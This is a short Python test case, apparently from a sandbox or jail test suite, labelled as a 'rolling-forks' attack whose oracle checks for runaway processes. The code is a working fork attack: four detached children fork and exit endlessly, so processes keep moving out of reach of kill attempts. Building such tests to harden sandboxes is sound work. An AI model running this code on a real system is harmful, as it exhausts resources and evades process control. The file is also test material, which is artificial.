# attack: jail/rolling-forks
# oracle: runaway
# imports: os
# tools:
# source: own
# note: processes that fork and exit: gone before somebody can kill them
import os
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
